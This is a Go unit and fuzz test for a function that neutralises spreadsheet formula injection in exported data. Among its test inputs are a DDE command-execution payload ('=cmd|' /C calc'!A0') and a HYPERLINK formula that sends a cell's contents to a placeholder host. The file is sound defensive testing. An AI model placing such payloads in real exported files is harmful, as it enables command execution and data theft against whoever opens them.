package export

import (
	"strings"
	"testing"
	"unicode"
)

func TestNeutralize(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"=1+1", "'=1+1"},
		{"+SUM(A1)", "'+SUM(A1)"},
		{"-2+3", "'-2+3"},
		{"@cmd", "'@cmd"},
		{"\t=1", "'\t=1"},
		{"\tplain", "'\tplain"}, // a leading tab alone is enough
		{"\r=1", "'\r=1"},
		{" =1", "' =1"},
		{"   @SUM(1)", "'   @SUM(1)"},
		{"\u3000=1", "'\u3000=1"}, // ideographic space
		{"\ufeff=1", "'\ufeff=1"}, // BOM, invisible
		{"\u200b+1", "'\u200b+1"}, // zero-width space, invisible
		{"\n=1", "'\n=1"},         // newline is white space
		{" \t x", "' \t x"},       // tab met while skipping spaces
		{`=HYPERLINK("http://example.invalid/?"&A2,"点击查看")`, `'=HYPERLINK("http://example.invalid/?"&A2,"点击查看")`},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		// Decision: a lone "-" and negative numbers as text are neutralised
		// too. The rule stays simple; real numbers should be passed as
		// int/float64, which Neutralize never sees.
		{"-", "'-"},
		{"-5", "'-5"},
		{"+8613800000000", "'+8613800000000"},
		// Left alone.
		{"正常文字", "正常文字"},
		{"测试甲", "测试甲"},
		{"13800000000", "13800000000"},
		{"999999201001011234", "999999201001011234"},
		{"0012026001", "0012026001"},
		{"a=1", "a=1"},
		{"1-2", "1-2"},
		{"＝1+1", "＝1+1"}, // full-width: not a formula in any spreadsheet
		{"'=1", "'=1"},   // already quoted: not doubled
		{"", ""},
		{"   ", "   "},
		{"\xff=1", "\xff=1"}, // invalid UTF-8 first: not a formula character
	}
	for _, tt := range tests {
		if got := Neutralize(tt.in); got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// dangerousStart reports whether s, after leading spaces (ASCII and
// Unicode), starts with a formula trigger. It is written independently of
// needsQuote so the fuzz test checks the property, not the implementation.
func dangerousStart(s string) bool {
	t := strings.TrimLeftFunc(s, func(r rune) bool { return r == ' ' })
	if t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0])) {
		return true
	}
	t = strings.TrimLeftFunc(s, func(r rune) bool {
		return r != '\t' && r != '\r' && (unicode.IsSpace(r) || unicode.Is(unicode.Cf, r))
	})
	return t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0]))
}

func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{
		"=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", " =1", "=HYPERLINK(\"x\")",
		"正常文字", "-", "-5", "'=1", "", " ", "\u3000\u200b=1", "\xff", "13800000000",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Neutralize(in)
		if out != in && out != "'"+in {
			t.Fatalf("Neutralize(%q) = %q: may only prepend an apostrophe", in, out)
		}
		if dangerousStart(out) && !strings.HasPrefix(out, "'") {
			t.Fatalf("Neutralize(%q) = %q still starts like a formula", in, out)
		}
		if dangerousStart(in) && out == in {
			t.Fatalf("Neutralize(%q) left a formula-like string unchanged", in)
		}
		if again := Neutralize(out); again != out {
			t.Fatalf("Neutralize not idempotent: %q -> %q -> %q", in, out, again)
		}
	})
}
